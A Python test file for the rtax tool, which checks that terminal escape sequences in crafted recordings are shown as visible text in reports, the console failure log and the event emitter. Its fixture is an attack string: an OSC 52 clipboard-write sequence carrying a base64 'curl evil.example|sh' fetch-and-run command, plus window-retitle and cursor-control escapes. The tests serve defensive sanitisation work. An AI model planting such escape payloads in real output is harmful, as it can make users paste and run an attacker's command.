"""Text a step wrote never acts on a screen: escape sequences in a recording's strings.

A step controls text that rtax shows: an error's message holds a command's stderr, and a
recording can be crafted whole and handed to `rtax report` or `rtax serve replay`. On a
terminal, or in the browser's xterm.js, `ESC ] 52 ; c ; ...` writes the clipboard (the
next paste runs the attacker's command), `ESC ] 0 ;` retitles the window, C1 controls
(`U+009B`, 8-bit CSI) move the cursor. Every event is made visible where it enters rtax
(`model.events.visible`: the engine's emitter, every reader's decode), so each surface
below shows `\\x1b`, never the byte.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

from rich.console import Console

from rtax_tui.model.errors import TrialError
from rtax_tui.model.events import Emitter, decode, encode, trial_end
from rtax_tui.model.recording import read_recording

ROOT = Path(__file__).resolve().parents[2]
T0 = ROOT / "recordings" / "examples" / "t0-local-stage.jsonl"
OSC52 = "\x1b]52;c;" + "Y3VybCBldmlsLmV4YW1wbGV8c2g=" + "\x07"  # "curl evil.example|sh"
ATTACK = OSC52 + "\x1b]0;pwned\x1b\\" + "\x9b2J" + "\x1b[8m" + "\r\x7f\x00 honest text"
CONTROLS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]


def _crafted(tmp_path: Path) -> Path:
    """The t0 example with its first trial failed by a message that attacks, and a
    header whose labels hold escapes too."""
    lines = T0.read_text().splitlines()
    out = []
    for line in lines:
        ev = json.loads(line)
        if ev["type"] == "trial_end" and ev["trial"] == 1:
            ev.update(ok=False, error={"phase": "action", "kind": "error", "message": ATTACK})
        if ev["type"] == "run":
            ev["profile"]["description"] = ATTACK
        if ev["type"] == "trial_start" and ev["workload"] == "t0":  # a label the report shows
            ev["workload"] = "t0" + OSC52
            ev["cell"] = ev["cell"].replace("/t0/", "/t0" + OSC52 + "/")
        out.append(json.dumps(ev))  # json.dumps escapes them as \u001b ...
    raw = out[0].replace("honest text", "honest\\u009b text")
    path = tmp_path / "crafted.jsonl"
    path.write_text("\n".join([raw, *out[1:]]) + "\n")
    return path


def _clean(text: str) -> bool:
    return not any(c in text for c in CONTROLS if c not in "\n")


def test_a_crafted_recordings_strings_are_read_visible(tmp_path: Path) -> None:
    rec = read_recording(_crafted(tmp_path))
    failed = [e for e in rec.events if e["type"] == "trial_end" and not e["ok"]]
    message = failed[0]["error"]["message"]
    assert message.startswith("\\x1b]52;c;") and "honest text" in message and _clean(message)
    assert _clean(json.dumps(rec.header, ensure_ascii=False))
    assert decode(b'{"a":"tab\\tand\\nnewline stay"}') == {"a": "tab\tand\nnewline stay"}


def test_rtax_report_of_a_crafted_recording_prints_no_escape(tmp_path: Path) -> None:
    crafted = _crafted(tmp_path)
    for args in (["report", str(crafted)], ["report", str(crafted), "--format", "json"]):
        res = subprocess.run(
            [sys.executable, "-m", "rtax_tui", *args],
            capture_output=True,
            cwd=tmp_path,
            timeout=120,
        )
        assert res.returncode == 0, res.stderr[-2000:]
        out = res.stdout.decode("utf-8")
        assert _clean(out), [c for c in CONTROLS if c in out]
        assert b"x1b]52" in res.stdout  # the cell's label, shown, not acting


def test_the_consoles_failure_log_shows_escapes_as_text(tmp_path: Path) -> None:
    from rtax_tui.ui.livestate import LiveState
    from rtax_tui.ui.widgets import FailureLog

    rec = read_recording(_crafted(tmp_path))
    state = LiveState()
    state.ingest(rec.header)
    for ev in rec.events:
        state.ingest(ev)
    assert state.failures and _clean(state.failures[0].message)
    drawn_text: list[object] = []
    log = FailureLog()
    log.update = drawn_text.append  # type: ignore[method-assign]  # no app: keep what it draws
    log.update_from(state)
    console = Console(file=io.StringIO(), width=200, color_system=None, legacy_windows=False)
    console.print(drawn_text[0])
    drawn = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\\x1b]52;c;" in drawn and _clean(drawn)


def test_the_engine_records_a_steps_escapes_as_text() -> None:
    lines: list[bytes] = []
    emit = Emitter([lambda ev: lines.append(encode(ev))])
    emit(trial_end(1, False, TrialError("action", "error", ATTACK)))
    line = lines[0]
    assert b"\\u001b" not in line and b"\\u009b" not in line and b"\\u0000" not in line
    assert b"\\\\x1b]52" in line  # the escape, written out
